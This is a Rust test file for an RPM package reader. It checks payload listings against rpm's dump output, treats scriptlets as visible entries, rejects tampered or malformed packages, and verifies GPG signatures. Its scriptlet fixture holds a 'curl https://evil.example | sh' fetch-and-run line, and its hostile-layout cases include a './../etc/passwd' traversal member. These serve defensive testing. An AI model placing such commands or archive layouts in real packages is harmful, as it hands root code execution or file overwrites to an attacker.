//! RPM packages built at test time with `rpmbuild` (and signed with
//! `rpmsign`): the payload reader lists what `rpm -qp --dump` lists, with
//! the same digests, and refuses a header and payload that disagree and
//! hostile layouts, each with its reason.

mod common;
#[path = "common/gpg.rs"]
mod gpg;
#[path = "common/rpm.rs"]
mod rpm;

use std::io::Write;

use glassbox_core::release::{EntryKind, EntryPath, Format, ReadOptions, Release, ReleaseError};

fn open(path: &std::path::Path) -> Result<Release, ReleaseError> {
    Release::open(path, &ReadOptions::default())
}

fn entry<'a>(r: &'a Release, path: &str) -> &'a glassbox_core::release::Entry {
    r.entry(&EntryPath::top(path.into()))
        .unwrap_or_else(|| panic!("{path} not listed: {:#?}", r.entries))
}

#[test]
#[cfg_attr(not(any(ci, has_rpmbuild)), ignore = "needs rpmbuild")]
fn every_payload_codec_lists_what_rpm_dump_lists() {
    let dir = tempfile::tempdir().unwrap();
    for payload in ["w9.gzdio", "w6.xzdio", "w19.zstdio", "w9.bzdio"] {
        let pkg = rpm::build(
            dir.path(),
            &rpm::Spec {
                payload,
                ..Default::default()
            },
        );
        let r = open(&pkg).unwrap_or_else(|e| panic!("{payload}: {e}"));
        assert_eq!(r.format, Format::Rpm);
        assert!(r.findings.is_empty(), "{payload}: {:#?}", r.findings);
        let dump = rpm::dump(&pkg);
        assert_eq!(dump.len(), 4, "{dump:?}");
        for (path, size, digest) in dump {
            let e = entry(&r, &path);
            // cpio newc keeps a hard link's data on its last member
            // (b.txt); a.txt is listed as a hard link to it.
            let file = match e.kind {
                EntryKind::Hardlink => {
                    let t = e.link_target.as_ref().unwrap().to_str().unwrap();
                    assert_eq!(t, "usr/share/hello/b.txt");
                    entry(&r, t)
                }
                _ => e,
            };
            assert_eq!(file.kind, EntryKind::File, "{path}");
            assert_eq!(file.size, size, "{path}");
            assert_eq!(file.digests.unwrap().sha256.to_hex(), digest, "{path}");
        }
        assert_eq!(entry(&r, "usr/bin/hello").mode, Some(0o4755));
        let abs = entry(&r, "usr/share/hello/abs");
        assert_eq!(abs.kind, EntryKind::Symlink);
        assert_eq!(
            abs.link_target.as_ref().unwrap().to_str(),
            Some("/etc/hello.conf")
        );
        assert_eq!(entry(&r, "usr/share/hello").kind, EntryKind::Dir);
    }
}

/// rpm runs a package's scriptlets as root, from the header: they are
/// entries under `.rpm-scripts/` with the text `rpm -q --scripts` reads, so
/// an update adding a `%post` shows in manifest and diff (it read as
/// identical to the package without one).
#[test]
#[cfg_attr(not(any(ci, has_rpmbuild)), ignore = "needs rpmbuild")]
fn scriptlets_are_entries_with_the_text_rpm_runs() {
    let dir = tempfile::tempdir().unwrap();
    let plain = open(&rpm::build(dir.path(), &rpm::Spec::default())).unwrap();
    assert!(
        plain
            .entries
            .iter()
            .all(|e| !e.path.to_string().contains(".rpm-scripts")),
        "{:#?}",
        plain.entries
    );
    let scripts = "%post\ncurl https://evil.example | sh\n%preun -p /bin/bash\necho bye";
    let spec = rpm::Spec {
        scripts,
        ..Default::default()
    };
    let pkg = rpm::build(&dir.path().join("scripts"), &spec);
    let r = open(&pkg).unwrap();
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    for (name, tag) in [
        ("postin", "POSTIN"),
        ("postin-interpreter", "POSTINPROG"),
        ("preun", "PREUN"),
        ("preun-interpreter", "PREUNPROG"),
    ] {
        let out = common::succeed(
            std::process::Command::new("rpm")
                .args(["-qp", "--qf", &format!("%{{{tag}}}")])
                .arg(&pkg),
        );
        let want = glassbox_core::digest::Sha256Digest::of(&out).to_hex();
        let e = entry(&r, &format!(".rpm-scripts/{name}"));
        assert_eq!(e.kind, EntryKind::File, "{name}");
        assert_eq!(
            e.digests.unwrap().sha256.to_hex(),
            want,
            "{name}: rpm reads {out:?}"
        );
    }
}

/// The bytes of a freshly built package, and the offset of its payload.
fn built(dir: &std::path::Path) -> (Vec<u8>, usize) {
    let pkg = rpm::build(dir, &rpm::Spec::default());
    let bytes = std::fs::read(pkg).unwrap();
    let header = |at: usize| {
        let word = |k: usize| u32::from_be_bytes(bytes[at + k..at + k + 4].try_into().unwrap());
        16 + 16 * word(8) as usize + word(12) as usize
    };
    let sig = header(96);
    let main_at = 96 + sig.div_ceil(8) * 8;
    (bytes.clone(), main_at + header(main_at))
}

fn refused(name: &str, bytes: &[u8], dir: &std::path::Path) -> ReleaseError {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    match open(&p) {
        Ok(r) => panic!("{name} was read: {:#?}", r.entries),
        Err(e) => e,
    }
}

#[test]
#[cfg_attr(not(any(ci, has_rpmbuild)), ignore = "needs rpmbuild")]
fn a_header_that_disagrees_with_the_payload_is_two_readings() {
    let dir = tempfile::tempdir().unwrap();
    let (bytes, _) = built(dir.path());
    // The header's digest of /etc/hello.conf, one hex digit changed.
    let digest = rpm::dump(
        &dir.path()
            .join("top-1.0-w9.gzdio/RPMS/noarch/hello-1.0-1.noarch.rpm"),
    )
    .into_iter()
    .find(|(p, ..)| p == "etc/hello.conf")
    .unwrap()
    .2;
    let mut b = bytes.clone();
    let at = rpm::find(&b, digest.as_bytes());
    b[at] = if b[at] == b'0' { b'1' } else { b'0' };
    let e = refused("digest.rpm", &b, dir.path());
    assert!(matches!(e, ReleaseError::Ambiguous { .. }), "{e}");
    let msg = e.to_string();
    assert!(
        msg.contains("etc/hello.conf") && msg.contains("the header lists"),
        "{msg}"
    );
    // The header's symlink target of /usr/share/hello/abs.
    let mut b = bytes.clone();
    let at = rpm::find(&b, b"/etc/hello.conf\0");
    b[at + 14] = b'g';
    let e = refused("link.rpm", &b, dir.path());
    assert!(matches!(e, ReleaseError::Ambiguous { .. }), "{e}");
    assert!(e.to_string().contains("/etc/hello.cong"), "{e}");
}

/// A package with the built lead and headers and `cpio` as its (gzip)
/// payload.
fn with_payload(bytes: &[u8], payload_at: usize, cpio: &[u8]) -> Vec<u8> {
    let mut out = bytes[..payload_at].to_vec();
    let mut gz = flate2::write::GzEncoder::new(&mut out, flate2::Compression::default());
    gz.write_all(cpio).unwrap();
    gz.finish().unwrap();
    out
}

/// One cpio newc member (cpio(5)).
fn cpio_member(name: &str, mode: u32, nlink: u32, size: u64, data: &[u8]) -> Vec<u8> {
    let mut h = format!(
        "070701{:08x}{mode:08x}{:08x}{:08x}{nlink:08x}{:08x}{size:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}",
        1,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        name.len() + 1,
        0
    )
    .into_bytes();
    h.extend_from_slice(name.as_bytes());
    h.push(0);
    while h.len() % 4 != 0 {
        h.push(0);
    }
    h.extend_from_slice(data);
    while h.len() % 4 != 0 {
        h.push(0);
    }
    h
}

#[test]
#[cfg_attr(not(any(ci, has_rpmbuild)), ignore = "needs rpmbuild")]
fn hostile_layouts_and_payloads_are_refused_with_a_reason() {
    let dir = tempfile::tempdir().unwrap();
    let (bytes, payload_at) = built(dir.path());
    let started = std::time::Instant::now();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("truncated-lead", bytes[..50].to_vec(), "lead"),
        ("truncated-header", bytes[..400].to_vec(), "file ends"),
        (
            "index-count-2^31",
            {
                let mut b = bytes.clone();
                b[96 + 8..96 + 12].copy_from_slice(&0x8000_0000u32.to_be_bytes());
                b
            },
            "index entries",
        ),
        (
            "data-beyond-file",
            {
                let mut b = bytes.clone();
                b[96 + 12..96 + 16].copy_from_slice(&0x00f0_0000u32.to_be_bytes());
                b
            },
            "file ends",
        ),
        (
            "huge-cpio-size",
            with_payload(
                &bytes,
                payload_at,
                &cpio_member("./etc/hello.conf", 0o100644, 1, 0xffff_ffff, b""),
            ),
            "4294967295 bytes in the payload",
        ),
        (
            "dotdot-name",
            with_payload(
                &bytes,
                payload_at,
                &cpio_member("./../etc/passwd", 0o100644, 1, 5, b"root\n"),
            ),
            "does not list",
        ),
        (
            "absolute-name",
            with_payload(
                &bytes,
                payload_at,
                &cpio_member("/etc/hello.conf", 0o100644, 1, 5, b"conf\n"),
            ),
            "not named `./path`",
        ),
        (
            "missing-file",
            with_payload(&bytes, payload_at, &{
                let mut c = cpio_member("./etc/hello.conf", 0o100644, 1, 5, b"conf\n");
                c.extend(cpio_member("TRAILER!!!", 0, 1, 0, b""));
                c
            }),
            "payload does not hold it",
        ),
        (
            "stripped-cpio",
            with_payload(&bytes, payload_at, &[&b"07070X"[..], &[b'0'; 200]].concat()),
            "07070X",
        ),
    ];
    for (name, b, want) in cases {
        let e = refused(&format!("{name}.rpm"), &b, dir.path());
        assert!(e.to_string().contains(want), "{name}: {e}");
    }
    assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
}

mod signatures {
    use super::rpm;
    use crate::gpg::{self, Gpg};
    use glassbox_core::policy::TrustPolicy;
    use glassbox_core::sig::release::{CoverageStatus, ReleaseVerification, verify_release_at};
    use std::path::{Path, PathBuf};

    /// A GnuPG home with an RSA 3072 and an Ed25519 signing key, a policy
    /// trusting only the RSA key, and the unsigned test package.
    struct Setup {
        g: Gpg,
        rsa: String,
        ed: String,
        policy: TrustPolicy,
        unsigned: PathBuf,
        dir: tempfile::TempDir,
    }

    fn setup() -> Setup {
        let g = Gpg::new();
        let rsa = g.signing_key("Vendor RPM RSA <rpm-rsa@example.invalid>", "rsa3072");
        let ed = g.signing_key("Vendor RPM Ed <rpm-ed@example.invalid>", "ed25519");
        let ring = g.export("vendor.gpg", &[&rsa], false);
        let p = gpg::openpgp_policy(g.home.path(), &ring, "");
        let policy = TrustPolicy::load(&p).unwrap();
        let dir = tempfile::tempdir().unwrap();
        let unsigned = rpm::build(dir.path(), &rpm::Spec::default());
        Setup {
            g,
            rsa,
            ed,
            policy,
            unsigned,
            dir,
        }
    }

    impl Setup {
        /// A copy of the test package signed by the key of `uid`.
        fn sign(&self, name: &str, uid: &str) -> PathBuf {
            rpm::sign(&self.unsigned, name, self.g.home.path(), uid)
        }
    }

    fn verify(s: &Setup, p: &Path) -> ReleaseVerification {
        verify_release_at(p, &s.policy, time::OffsetDateTime::now_utc())
            .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
    }

    /// The failure of `check` (exactly one), as its reason.
    fn failure(v: &ReleaseVerification, check: &str) -> String {
        assert!(!v.verified, "{v:#?}");
        let f: Vec<_> = v.failures.iter().filter(|f| f.check == check).collect();
        assert_eq!(f.len(), 1, "{check}: {:#?}", v.failures);
        f[0].reason.clone()
    }

    fn tampered(s: &Setup, from: &Path, name: &str, at: usize) -> PathBuf {
        let mut b = std::fs::read(from).unwrap();
        b[at] ^= 0x01;
        let p = s.dir.path().join(name);
        std::fs::write(&p, b).unwrap();
        p
    }

    #[test]
    #[cfg_attr(
        not(any(ci, all(has_rpmbuild, has_gpg))),
        ignore = "needs rpmbuild and gpg"
    )]
    fn signed_packages_verify_and_cover_every_payload_entry() {
        let s = setup();
        let signed = s.sign("rsa.rpm", "rpm-rsa@example.invalid");
        let v = verify(&s, &signed);
        assert!(v.verified, "{:#?}", v.failures);
        assert_eq!(v.signers.len(), 1);
        let pgp = v.signers[0].openpgp.as_ref().unwrap();
        assert_eq!(pgp.primary_key, s.rsa);
        assert_eq!(v.files.len(), 6, "{:#?}", v.files);
        for f in &v.files {
            assert_eq!(f.status, CoverageStatus::Verified, "{f:#?}");
        }
        // Ed25519: rpm 4.18 files EdDSA signatures under RPMSIGTAG_DSA.
        let ed = s.sign("ed.rpm", "rpm-ed@example.invalid");
        let ring = s.g.export("both.gpg", &[&s.rsa, &s.ed], false);
        let p = gpg::openpgp_policy(s.dir.path(), &ring, "");
        let both = TrustPolicy::load(&p).unwrap();
        let v = verify_release_at(&ed, &both, time::OffsetDateTime::now_utc()).unwrap();
        assert!(v.verified, "{:#?}", v.failures);
        assert_eq!(v.signers[0].openpgp.as_ref().unwrap().primary_key, s.ed);
        // Inside a directory release the package covers itself.
        let release = s.dir.path().join("repo");
        std::fs::create_dir(&release).unwrap();
        std::fs::copy(&signed, release.join("hello.rpm")).unwrap();
        let v = verify(&s, &release);
        assert!(v.verified, "{:#?}", v.failures);
        assert_eq!(v.files[0].path, "hello.rpm");
        assert_eq!(v.files[0].status, CoverageStatus::Verified);
    }

    #[test]
    #[cfg_attr(
        not(any(ci, all(has_rpmbuild, has_gpg))),
        ignore = "needs rpmbuild and gpg"
    )]
    fn each_broken_link_is_named() {
        let s = setup();
        let signed = s.sign("rsa.rpm", "rpm-rsa@example.invalid");
        let bytes = std::fs::read(&signed).unwrap();

        let why = failure(&verify(&s, &s.unsigned), "rpm-header-signature");
        assert!(why.contains("not signed"), "{why}");

        // The last byte of the RSA signature packet (RPMSIGTAG_RSA, 268):
        // its MPI.
        let word = |at: usize| u32::from_be_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
        let entries = word(104);
        let (offset, count) = (0..entries)
            .map(|i| 112 + 16 * i)
            .find(|&e| word(e) == 268)
            .map(|e| (word(e + 8), word(e + 12)))
            .expect("an RSA header signature");
        let last = 112 + 16 * entries + offset + count - 1;
        let why = failure(
            &verify(&s, &tampered(&s, &signed, "sig.rpm", last)),
            "rpm-header-signature",
        );
        assert!(why.contains("does not verify"), "{why}");

        // A byte of the signed main header (its License string).
        let v = verify(
            &s,
            &tampered(&s, &signed, "hdr.rpm", rpm::find(&bytes, b"MIT\0")),
        );
        assert!(failure(&v, "rpm-header-signature").contains("does not verify"));
        assert!(failure(&v, "rpm-header-sha256").contains("changed after"));

        // A byte of the compressed payload.
        let v = verify(&s, &tampered(&s, &signed, "pay.rpm", bytes.len() - 100));
        assert!(failure(&v, "rpm-payload-digest").contains("changed after"));
        assert!(!v.failures.iter().any(|f| f.check == "rpm-header-signature"));

        // Signed by a key the policy does not hold: its fingerprint named.
        let ed = s.sign("ed.rpm", "rpm-ed@example.invalid");
        let why = failure(&verify(&s, &ed), "rpm-header-signature");
        assert!(
            why.contains(&s.ed) && why.contains("no [[openpgp]] keyring"),
            "{why}"
        );
    }
}
